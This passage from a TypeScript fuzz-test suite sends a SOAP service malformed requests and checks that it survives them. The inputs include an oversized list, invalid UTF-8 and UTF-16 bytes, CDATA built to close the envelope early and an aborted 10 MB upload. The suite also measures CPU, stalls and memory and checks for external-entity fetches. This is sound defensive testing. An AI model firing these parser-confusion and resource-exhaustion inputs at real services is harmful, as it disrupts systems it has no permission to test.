    { name: '100,001 list items (Geocode addresses, one past its limit)', ct: ct11, expect: 'any', op: 'Geocode', body: utf8(() => envelope(11, `<Geocode xmlns="${NS}"><specification><Addresses>${'<Address><Street>Monaco</Street></Address>'.repeat(100_001)}</Addresses></specification></Geocode>`)) },

    // encodings
    { name: 'UTF-16LE with a BOM and charset=utf-16: a valid CreditRemaining', ct: 'text/xml; charset=utf-16', expect: '200', op: 'CreditRemaining', body: () => Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(`<?xml version="1.0" encoding="utf-16"?>${envelope(11, credit)}`, 'utf16le')]) },
    { name: 'UTF-16LE with a BOM, charset not given: a valid CreditRemaining', ct: ct12, expect: '200', op: 'CreditRemaining', body: () => Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(envelope(12, credit), 'utf16le')]) },
    { name: 'UTF-16BE with a BOM', ct: 'text/xml; charset=utf-16', expect: 'any', op: 'CreditRemaining', body: () => Buffer.concat([Buffer.from([0xfe, 0xff]), Buffer.from(envelope(11, credit), 'utf16le').swap16()]) },
    { name: 'UTF-16 without a BOM or charset', ct: ct11, expect: 'fault', body: () => Buffer.from(envelope(11, credit), 'utf16le') },
    { name: 'UTF-16 with an odd byte count (the dangling byte is dropped)', ct: 'text/xml; charset=utf-16', expect: 'any', op: 'CreditRemaining', body: () => Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(envelope(11, credit), 'utf16le'), Buffer.from([0x41])]) },
    { name: 'invalid UTF-8 bytes in a text', ct: ct11, expect: 'any', op: 'Login', body: () => { const [a, b] = envelope(11, `<Login xmlns="${NS}"><userName>@</userName><password>x</password></Login>`).split('@'); return Buffer.concat([Buffer.from(a), Buffer.from([0xc3, 0x28, 0xff, 0xfe, 0xc0, 0xaf, 0xed, 0xa0, 0x80, 0xf4, 0x90, 0x80, 0x80]), Buffer.from(b)]); } },
    { name: 'invalid UTF-8 bytes in an element name', ct: ct11, expect: 'fault', body: () => { const [a, b] = envelope(11, `<Cred@ xmlns="${NS}"/>`).split('@'); return Buffer.concat([Buffer.from(a), Buffer.from([0xff, 0xc0]), Buffer.from(b)]); } },
    { name: 'random binary (64 KiB)', ct: ct11, expect: 'fault', body: () => { let x = 12345; const b = Buffer.alloc(1 << 16); for (let i = 0; i < b.length; i++) { x = (x * 1103515245 + 12345) >>> 0; b[i] = x >>> 24; } return b; } },

    // shapes
    { name: 'a processing instruction only', ct: ct11, expect: 'fault', body: utf8(() => '<?xml version="1.0"?><?xml-stylesheet href="x"?>') },
    { name: 'an XML declaration only', ct: ct12, expect: 'fault', body: utf8(() => '<?xml version="1.0" encoding="utf-8"?>') },
    { name: 'an empty body (Content-Length 0)', ct: ct11, expect: 'fault', body: () => Buffer.alloc(0) },
    { name: 'an empty body under SOAP 1.2', ct: ct12, expect: 'fault', body: () => Buffer.alloc(0) },
    { name: 'whitespace only', ct: ct11, expect: 'fault', body: utf8(() => ' \n\t'.repeat(1000)) },
    { name: 'two roots', ct: ct11, expect: 'fault', body: utf8(() => envelope(11, credit) + envelope(11, credit)) },
    { name: 'text after the root', ct: ct11, expect: 'fault', body: utf8(() => `${envelope(11, credit)}trailing`) },
    { name: 'an XML declaration after a comment', ct: ct11, expect: 'fault', body: utf8(() => `<!-- x --><?xml version="1.0"?>${envelope(11, credit)}`) },
    { name: 'CDATA holding markup that would close the Body', ct: ct11, expect: 'fault', body: utf8(() => `<soap:Envelope xmlns:soap="${SOAP11}"><soap:Header><SessionIDHeader xmlns="${NS}"><SessionID><![CDATA[</SessionID></SessionIDHeader></soap:Header>]]></SessionID></SessionIDHeader></soap:Header><soap:Body>${credit}</soap:Body></soap:Envelope>`) },
    { name: 'CDATA around the key (valid)', ct: ct11, expect: '200', op: 'CreditRemaining', body: utf8(() => `<soap:Envelope xmlns:soap="${SOAP11}"><soap:Header><SessionIDHeader xmlns="${NS}"><SessionID><![CDATA[${key.slice(0, 4)}]]><![CDATA[${key.slice(4)}]]></SessionID></SessionIDHeader></soap:Header><soap:Body>${credit}</soap:Body></soap:Envelope>`) },
    { name: 'an unterminated CDATA section', ct: ct11, expect: 'fault', body: utf8(() => envelope(11, `<Login xmlns="${NS}"><userName><![CDATA[abc</userName></Login>`)) },
    { name: 'CDATA outside the root', ct: ct11, expect: 'fault', body: utf8(() => `<![CDATA[x]]>${envelope(11, credit)}`) },
    { name: ']]> in character data', ct: ct11, expect: 'fault', body: utf8(() => envelope(11, `<Login xmlns="${NS}"><userName>a]]>b</userName></Login>`)) },
    { name: 'nested CDATA', ct: ct11, expect: 'fault', body: utf8(() => envelope(11, `<Login xmlns="${NS}"><userName><![CDATA[a<![CDATA[b]]>c]]></userName></Login>`)) },
    { name: 'a SOAP 1.1 envelope under the SOAP 1.2 Content-Type', ct: ct12, expect: 'fault', body: utf8(() => envelope(11, credit)) },
    { name: 'an unbound prefix', ct: ct11, expect: 'fault', body: utf8(() => `<soap:Envelope><soap:Body>${credit}</soap:Body></soap:Envelope>`) },
    { name: 'xmlns:soap redefined inside the Body', ct: ct11, expect: 'fault', body: utf8(() => envelope(11, `<soap:Fault xmlns:soap="urn:x"/>`)) },
    { name: 'a client sending a SOAP Fault', ct: ct11, expect: 'fault', body: utf8(() => envelope(11, '<soap:Fault><faultcode>soap:Server</faultcode><faultstring>x</faultstring></soap:Fault>')) },
    { name: 'a client that stops half-way through a 10 MB body and hangs up after 3 s', ct: ct11, expect: 'any', abort: true, body: () => sized(1 << 20), send: { mode: 'abort', declared: 10_000_000, abortAfterMs: 3000 } },
  ];

  const corpusResults: Record<string, unknown>[] = [];
  for (const item of CORPUS) {
    it(`corpus: ${item.name}`, async () => {
      expect(alive(), `the server is down before this item: ${exitInfo}`).toBe(true);
      const body = item.body();
      const headers: Record<string, string> = { ...(item.ct ? { 'Content-Type': item.ct } : {}), ...(item.headers ?? {}) };
      let baseCpu: number | null = null;
      if (item.limitStopsEarly) {
        const b = item.limitStopsEarly.body();
        const c0 = serverCpuMs();
        await send({ headers, body: b, timeoutMs: 60_000 });
        await new Promise((r) => setTimeout(r, 50));
        baseCpu = serverCpuMs() - c0;
      }
      const c0 = serverCpuMs();
      const t0 = Date.now();
      const results = await Promise.all(Array.from({ length: item.parallel ?? 1 }, () => send({ headers, body, agent: false, timeoutMs: 60_000, ...item.send })));
      const t1 = Date.now();
      await probesCaughtUp(t1);
      const overlapping = probesIn(t0, t1);
      const probeMax = Math.max(0, ...overlapping.map((p) => p.ms));
      const stallMax = Math.max(0, ...overlapping.map(stallOf));
      const cpuMs = serverCpuMs() - c0;
      const found: string[] = [];
      const outs: string[] = [];
      for (const r of results) {
        if (item.abort) { outs.push(r.error ?? `${r.status}`); continue; }
        if (!r.error && r.ms > REQUEST_TIMEOUT_MS && !item.receiving50MB && !item.bulk) found.push(`answered after ${r.ms} ms (bound ${REQUEST_TIMEOUT_MS} ms)`);
        const j = judge(item.ct, r, item.expect, item.op);
        outs.push(j.outcome);
        found.push(...j.problems);
        // past the limit the server answers 413 and closes: a client still writing may see the close first
        if (item.expect === '413' && r.error && /ECONNRESET|EPIPE|socket hang up/.test(r.error) && ((item.send?.declared ?? 0) > BODY_LIMIT || r.bytesSent > BODY_LIMIT)) {
          found.splice(found.indexOf(r.error), 1);
          outs[outs.length - 1] = `closed after the 413 (${r.error})`;
        }
      }
      if (!alive()) found.push(`the server died: ${exitInfo}`);
      if (baseCpu !== null && cpuMs > 3 * baseCpu + 100) found.push(`it cost the event loop ${cpuMs} ms of CPU, more than 3 × ${baseCpu} ms + 100 ms for ${item.limitStopsEarly!.what}: the limit does not stop the work early`);
      if (!item.receiving50MB && !item.bulk && stallMax > PROBE_MAX_MS) found.push(`/healthz stalled ${stallMax} ms (waited ${probeMax} ms) while this request was being handled (bound ${PROBE_MAX_MS} ms)`);
      const row = { item: item.name, bytes: body.length * (item.parallel ?? 1) || item.send?.declared, outcome: outs.join(', '), ms: results.map((r) => r.ms), probeMax, stallMax, serverCpuMs: cpuMs, ...(baseCpu !== null ? { baselineCpuMs: baseCpu } : {}), peakRssMb: peakRssMb(t0, t1 + 150) };
      corpusResults.push(row);
      if (found.length > 0) {
        problems.push({ what: `corpus: ${item.name}`, problems: found, request: body.length <= 100_000 ? saveRepro(item.name, headers, body) : undefined });
      }
      expect(found, JSON.stringify(row)).toEqual([]);
    }, 180_000);
  }

  it('afterwards: the server is up and answers; nothing fetched for an external entity; no internal error logged; RSS under the bound', async () => {
    await new Promise((r) => setTimeout(r, 500));
    expect(alive(), exitInfo ?? '').toBe(true);
    const h = await new Promise<number>((resolve) => {
      httpRequest(`${server.url}/healthz`, (res) => { res.resume(); resolve(res.statusCode ?? 0); }).on('error', () => resolve(0)).end();
    });
    expect(h).toBe(200);
    const ok = await send({ headers: { 'Content-Type': ct12 }, body: Buffer.from(envelope(12, credit)) });
    expect(judge(ct12, ok, '200', 'CreditRemaining').problems).toEqual([]);
    const peakKb = Math.max(0, ...rss.map((r) => r.rssKb));
    const hwmKb = Math.max(0, ...rss.map((r) => r.hwmKb));
    const errors = logLines.filter((l) => /"level":(50|60)/.test(l));
    // stderr: the start banner, and nothing like an uncaught error, a heap warning or a stack
    const stderrOther = server.stderr().split('\n').filter((l) => /error|uncaught|exception|fatal|heap|warning|^\s+at /i.test(l));
    const allProbes = probes.map((p) => p.ms);
    Object.assign(summary, {
      corpus: corpusResults,
      canaryHits,
      errorLogs: errors.length,
      stderrLines: stderrOther,
      peakRssMb: Math.round(peakKb / 1024),
      vmHwmMb: Math.round(hwmKb / 1024),
      rssBoundMb: RSS_BOUND_MB,
      probes: { count: allProbes.length, p50: percentile(allProbes, 0.5), p99: percentile(allProbes, 0.99), max: Math.max(0, ...allProbes), failed: probes.filter((p) => p.status !== 200).length },
      stalls: { p50: percentile(probes.map(stallOf), 0.5), p99: percentile(probes.map(stallOf), 0.99), max: Math.max(0, ...probes.map(stallOf)) },
      problems: problems.map((p) => ({ what: p.what, problems: p.problems, request: p.request, model: p.model })),
    });
    const out = join(tmpdir(), 'dk-soap-fuzz-summary.json');
    writeFileSync(out, JSON.stringify(summary, null, 1));
    console.log(`SOAP fuzz summary (${out}):`, JSON.stringify({ corpus: (summary as { corpus?: unknown[] }).corpus?.length, problems: problems.length }));
    expect(canaryHits, 'requests the server made for external entities').toBe(0);
    expect(errors.slice(0, 5), 'error-level log lines').toEqual([]);
    expect(stderrOther.slice(0, 10), 'error-looking lines on the server stderr').toEqual([]);
    expect(Math.round(peakKb / 1024), 'peak VmRSS (MB)').toBeLessThanOrEqual(RSS_BOUND_MB);
    expect(Math.round(hwmKb / 1024), 'VmHWM (MB)').toBeLessThanOrEqual(RSS_BOUND_MB);
    expect(probes.filter((p) => p.status !== 200).map((p) => p.error ?? p.status), 'failed /healthz probes').toEqual([]);
  }, 60_000);
});
